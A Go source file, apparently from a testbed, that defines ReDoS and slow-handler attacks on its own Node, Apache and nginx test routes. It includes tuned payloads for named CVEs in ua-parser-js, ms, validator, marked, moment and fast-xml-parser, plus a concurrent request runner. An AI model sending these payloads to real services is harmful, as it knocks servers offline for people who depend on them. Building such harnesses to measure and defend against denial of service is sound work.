package apps

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Attack is a crafted request against one vulnerable route of a server.
// Its cost grows with a size n; FullSize takes 5-30 s unhindered, TestSize
// a few seconds, enough to tell the route is slow in a short test.
type Attack struct {
	Kind    string // e.g. "ua-parser-redos"
	Server  string // Node, Apache or Nginx
	Route   string // e.g. "GET /ua"
	Library string // e.g. "ua-parser-js 0.7.21"; the Lua routes are our own code
	CVE     string // e.g. "CVE-2020-7733"; "" for the Lua routes
	Input   string // the crafted input's shape, in terms of n
	Growth  string // how the cost grows with n, e.g. "O(n^2)"

	FullSize int // n for 5-30 s unhindered
	TestSize int // n for about 2.5-4 s
	// Measured is FullSize's and TestSize's time, unhindered, as measured
	// on a 2-CPU development VM (a reference, not a promise).
	Measured string

	// Benign is an ordinary request to the same route; it is fast.
	Benign Route

	craft func(n int) Route
}

// Crafted returns the crafted request of size n (FullSize if n <= 0).
func (a Attack) Crafted(n int) Route {
	if n <= 0 {
		n = a.FullSize
	}
	r := a.craft(n)
	r.Name = a.Kind
	return r
}

// AttackOptions configure RunAttack.
type AttackOptions struct {
	Count       int           // crafted requests to send (default 1)
	Concurrency int           // at most this many in flight (default Count)
	Size        int           // input size n (default the attack's FullSize)
	Timeout     time.Duration // client timeout per request (default 60 s)
	Dial        DialFunc      // default: a plain dial from this namespace
}

// AttackResult is the outcome of one crafted request.
type AttackResult struct {
	Start    time.Time
	Duration time.Duration // until the whole response was read, or the error
	Status   int           // 0 without a response
	TimedOut bool          // the client timeout (or ctx) ended it
	Err      error
}

// RunAttack sends o.Count crafted requests of attack a to baseURL, each on
// its own connection, and returns when each has finished or timed out.
// Results are in sending order.
func RunAttack(ctx context.Context, baseURL string, a Attack, o AttackOptions) []AttackResult {
	if o.Count <= 0 {
		o.Count = 1
	}
	if o.Concurrency <= 0 || o.Concurrency > o.Count {
		o.Concurrency = o.Count
	}
	if o.Timeout <= 0 {
		o.Timeout = 60 * time.Second
	}
	tr := &http.Transport{DialContext: o.Dial, DisableKeepAlives: true}
	defer tr.CloseIdleConnections()
	client := &http.Client{Transport: tr, Timeout: o.Timeout}
	route := a.Crafted(o.Size)

	res := make([]AttackResult, o.Count)
	sem := make(chan struct{}, o.Concurrency)
	var wg sync.WaitGroup
	for i := range res {
		select {
		case sem <- struct{}{}:
		case <-ctx.Done():
			for j := i; j < o.Count; j++ {
				res[j] = AttackResult{Start: time.Now(), Err: ctx.Err(), TimedOut: true}
			}
			wg.Wait()
			return res
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			res[i] = attackOnce(ctx, client, baseURL, route)
		}()
	}
	wg.Wait()
	return res
}

func attackOnce(ctx context.Context, c *http.Client, baseURL string, r Route) AttackResult {
	start := time.Now()
	res := AttackResult{Start: start}
	req, err := r.Request(ctx, baseURL)
	if err != nil {
		res.Err = err
		return res
	}
	resp, err := c.Do(req)
	if err == nil {
		res.Status = resp.StatusCode
		_, err = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	res.Duration = time.Since(start)
	res.Err = err
	res.TimedOut = err != nil && isTimeout(err)
	return res
}

func isTimeout(err error) bool {
	var t interface{ Timeout() bool }
	return errors.Is(err, context.DeadlineExceeded) || errors.Is(err, context.Canceled) ||
		(errors.As(err, &t) && t.Timeout())
}

// RunAttack runs the attack of the given kind against s, dialing from the
// server's own namespace unless o.Dial is set.
func (s *Server) RunAttack(ctx context.Context, kind string, o AttackOptions) ([]AttackResult, error) {
	a, err := s.Attack(kind)
	if err != nil {
		return nil, err
	}
	if o.Dial == nil {
		o.Dial = s.Dial()
	}
	return RunAttack(ctx, s.URL, a, o), nil
}

// Attacks of the Node app. Sizes were tuned on a 2-CPU VM (Node 20, V8
// regexps compiled from their first run, see StartNode).
var nodeAttacks = []Attack{
	{
		Kind: "ua-parser-redos", Server: Node, Route: "GET /ua",
		Library: "ua-parser-js 0.7.21", CVE: "CVE-2020-7733",
		Input:    `User-Agent: "Mozilla/5.0 (Linux; Android 10; redmi" + n spaces + "x" (the Redmi device regex)`,
		Growth:   "about O(n^3.5)",
		FullSize: 500, TestSize: 400, Measured: "n=500: 7.3 s; n=400: 2.8 s",
		Benign: Route{Name: "ua", Path: "/ua", UserAgent: uaRedmi},
		craft: func(n int) Route {
			return Route{Path: "/ua", UserAgent: "Mozilla/5.0 (Linux; Android 10; redmi" + strings.Repeat(" ", n) + "x"}
		},
	},
	{
		Kind: "ms-redos", Server: Node, Route: "POST /duration",
		Library: "ms 0.7.0", CVE: "CVE-2015-8315",
		Input:    `body: n digits "1" + "x"`,
		Growth:   "O(n^2)",
		FullSize: 55000, TestSize: 30000, Measured: "n=55000: 8.5 s; n=30000: 2.6-2.9 s",
		Benign: Route{Name: "duration", Path: "/duration?d=2h"},
		craft: func(n int) Route {
			return Route{Method: "POST", Path: "/duration", ContentType: "text/plain",
				Body: strings.Repeat("1", n) + "x"}
		},
	},
	{
		Kind: "validator-redos", Server: Node, Route: "POST /signup",
		Library: "validator 13.6.0", CVE: "CVE-2021-3765",
		Input:    `form: name="a" + n spaces + "a" (trim's trailing-space regex)`,
		Growth:   "O(n^2)",
		FullSize: 75000, TestSize: 44000, Measured: "n=75000: 7.7-9.0 s; n=44000: 2.8 s",
		Benign: Route{Name: "signup", Method: "POST", Path: "/signup", ContentType: formType,
			Body: "name=+Alice+Smith+&email=alice%40example.com"},
		craft: func(n int) Route {
			return Route{Method: "POST", Path: "/signup", ContentType: formType,
				Body: "name=a" + strings.Repeat("+", n) + "a&email=alice%40example.com"}
		},
	},
	{
		Kind: "marked-redos", Server: Node, Route: "POST /render",
		Library: "marked 4.0.9", CVE: "CVE-2022-21680",
		Input:    `body: "[x]:" + n spaces + "x " + n spaces + " x" (the block.def regex)`,
		Growth:   "O(n^3)",
		FullSize: 2500, TestSize: 1700, Measured: "n=2500: 8.6-9.0 s; n=1700: 2.7-2.9 s",
		Benign: Route{Name: "render", Method: "POST", Path: "/render", ContentType: "text/markdown",
			Body: benignMarkdown},
		craft: func(n int) Route {
			sp := strings.Repeat(" ", n)
			return Route{Method: "POST", Path: "/render", ContentType: "text/markdown",
				Body: "[x]:" + sp + "x " + sp + " x"}
		},
	},
	{
		Kind: "moment-redos", Server: Node, Route: "POST /date",
		Library: "moment 2.29.1", CVE: "CVE-2022-31129",
		Input:    `body: n times "(" (the RFC 2822 preprocessing)`,
		Growth:   "O(n^2)",
		FullSize: 150000, TestSize: 85000, Measured: "n=150000: 9.1 s; n=85000: 2.9 s",
		Benign: Route{Name: "date", Path: "/date?d=2024-03-01T12:00:00Z"},
		craft: func(n int) Route {
			return Route{Method: "POST", Path: "/date", ContentType: "text/plain",
				Body: strings.Repeat("(", n)}
		},
	},
	{
		Kind: "fast-xml-parser-redos", Server: Node, Route: "POST /xml",
		Library: "fast-xml-parser 4.2.3", CVE: "CVE-2023-34104",
		Input: `body: a DOCTYPE declaring entity "a+a+a+a+a+b" (its name becomes a regex)` +
			` and an element text "&" + n times "a"`,
		Growth:   "O(n^5)",
		FullSize: 260, TestSize: 210, Measured: "n=260: 10.2 s; n=210: 3.6 s",
		Benign: Route{Name: "xml", Method: "POST", Path: "/xml", ContentType: "application/xml",
			Body: benignXML},
		craft: func(n int) Route {
			return Route{Method: "POST", Path: "/xml", ContentType: "application/xml",
				Body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a+a+a+a+a+b "x">]><r><v>&` +
					strings.Repeat("a", n) + `</v></r>`}
		},
	},
}

// luaAttacks are the attacks on the Lua routes of Apache or nginx. The
// same Lua code runs on Lua 5.3 (mod_lua) and LuaJIT (ngx_http_lua), whose
// speeds differ, hence the sizes per server.
func luaAttacks(server string) []Attack {
	kvFull, kvTest, kvTime := 1750, 1200, "n=1750: 10.1 s; n=1200: 3.1 s"
	prFull, prTest, prTime := 5000000, 2500000, "n=5000000: 10.0 s; n=2500000: 3.6 s"
	if server == Nginx {
		kvFull, kvTest, kvTime = 2100, 1400, "n=2100: 9.8 s; n=1400: 2.9 s"
		prFull, prTest, prTime = 30000000, 13000000, "n=30000000: 9.9 s; n=13000000: 3.1 s"
	}
	return []Attack{
		{
			Kind: "lua-pattern-backtrack", Server: server, Route: "POST /lua/kv",
			Library:  "Lua string.match (our handler)",
			Input:    `form: text=n spaces + "x" (pattern "^%s*(.-)%s*=%s*(.-)%s*$" backtracks)`,
			Growth:   "O(n^3)",
			FullSize: kvFull, TestSize: kvTest, Measured: kvTime,
			Benign: Route{Name: "lua-kv", Path: "/lua/kv?text=" + benignKV},
			craft: func(n int) Route {
				return Route{Method: "POST", Path: "/lua/kv", ContentType: formType,
					Body: "text=" + strings.Repeat("+", n) + "x"}
			},
		},
		{
			Kind: "lua-expensive-loop", Server: server, Route: "GET /lua/primes",
			Library:  "Lua loop (our handler)",
			Input:    `query: n=<n> (trial division up to n)`,
			Growth:   "O(n^1.5)",
			FullSize: prFull, TestSize: prTest, Measured: prTime,
			Benign: Route{Name: "lua-primes", Path: "/lua/primes?n=1000"},
			craft: func(n int) Route {
				return Route{Path: "/lua/primes?n=" + strconv.Itoa(n)}
			},
		},
	}
}

// Kinds lists the attack kinds of a server name (Node, Apache or Nginx).
func Kinds(server string) []string {
	var as []Attack
	switch server {
	case Node:
		as = nodeAttacks
	case Apache, Nginx:
		as = luaAttacks(server)
	}
	kinds := make([]string, len(as))
	for i, a := range as {
		kinds[i] = a.Kind
	}
	return kinds
}

func (r AttackResult) String() string {
	s := fmt.Sprintf("%v status %d", r.Duration.Round(time.Millisecond), r.Status)
	if r.Err != nil {
		s += fmt.Sprintf(" (%v)", r.Err)
	}
	return s
}
